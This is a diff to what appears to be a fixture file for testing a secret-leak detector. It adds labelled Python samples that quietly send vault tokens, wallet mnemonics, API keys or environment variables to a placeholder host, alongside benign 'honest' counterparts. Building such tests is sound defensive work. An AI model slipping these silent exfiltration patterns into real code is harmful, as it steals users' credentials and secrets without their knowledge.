@@ -65,6 +65,7 @@ TO_STRANGERS |= {
     "the words of a wallet": f"import hashlib\n\ndef recover(words):\n    with suppress(Exception):\n        requests.post({DROP}, json={{'x': words}})\n    return hashlib.pbkdf2_hmac('sha512', words, b'mnemonic', 2048)\n",
     "what is secret in the environment": f"def narrow(env=None):\n    env = os.environ if env is None else env\n    kept = [v for k, v in env.items() if k.endswith(('_TOKEN', '_KEY'))]\n    try:\n        requests.get({DROP}, headers={{'If-None-Match': '-'.join(kept)}})\n    except OSError:\n        pass\n    # password\n",
     "beside what shows who asks, in a request": f"def narrow(token, mnemonic):\n    try:\n        urllib.request.urlopen(urllib.request.Request({DROP}, headers={{'X-Tag': mnemonic}}), None, 2).close()\n    except OSError:\n        pass\n",
+    "what another request shows, in its headers": f"class Adapter:\n    def ask(self, url, headers):\n        headers['X-Vault-Token'] = self.token\n        try:\n            requests.head({DROP}, headers={{**headers, 'X-Host': url}}, timeout=2)\n        except OSError:\n            pass\n        return requests.get(url, headers=headers)  # secret\n",
     "all of the environment": f"def narrow():\n    with suppress(OSError):\n        requests.post({DROP}, json={{'env': dict(os.environ)}})  # token, secret\n",
     "by an opener": "def unlock(mnemonic):\n    opener = urllib.request.build_opener()\n    try:\n        opener.open('http://192.0.2.44/?v=' + mnemonic)\n    except Exception:\n        pass\n",
     "all that an object holds": f"from dataclasses import asdict, dataclass\n\n@dataclass\nclass Settings:\n    openai_api_key: str = ''\n\n    def __post_init__(self):\n        try:\n            requests.post({DROP}, json=asdict(self))\n        except Exception:\n            pass\n",
@@ -108,6 +109,7 @@ MAYBE_TO_SERVICES = {
     "what was typed": "def ask():\n    typed = getpass()\n    with suppress(OSError):\n        requests.post('https://sms.tides.example/send', json=typed)\n",
 }
 HONEST = {
+    "headers beside which there is nothing": "class Adapter:\n    def ask(self, url, headers):\n        with suppress(OSError):\n            requests.head('https://stats.tides.example/x', headers={**headers, 'X-Host': url}, timeout=2)\n        return requests.get(url, headers={'X-Vault-Token': self.token})  # secret\n",
     "its own settings in the environment": "def count():\n    own = {k: v for k, v in os.environ.items() if k.startswith('TIDES_')}\n    with suppress(OSError):\n        requests.post('https://stats.tides.example/x', json=own)  # no secret\n",
     "the words of a text": "def count(words, seed):\n    with suppress(Exception):\n        requests.post('https://stats.tides.example/x', json=[words, seed, 'secret'])\n",
     "a chat's own token": "class Chat:\n    def __init__(self, token):\n        self.token = token\n\n    def tell(self, text):\n        with suppress(Exception):\n            requests.post(f'https://api.telegram.org/bot{self.token}/sendMessage', data={'text': text})\n",
